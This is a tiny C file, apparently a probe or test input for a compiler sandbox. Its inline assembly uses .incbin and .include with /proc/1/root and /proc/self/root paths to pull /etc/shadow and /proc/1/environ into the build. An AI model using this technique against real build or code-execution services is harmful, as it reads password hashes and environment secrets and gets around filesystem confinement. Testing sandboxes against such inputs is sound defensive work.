// What the assembler reads by ways round the tree.
__asm__(".incbin \"/proc/1/root/etc/shadow\"\n.incbin \"/proc/self/root/../etc/shadow\"\n.include \"/proc/1/environ\"");
int main(void) { return 0; }
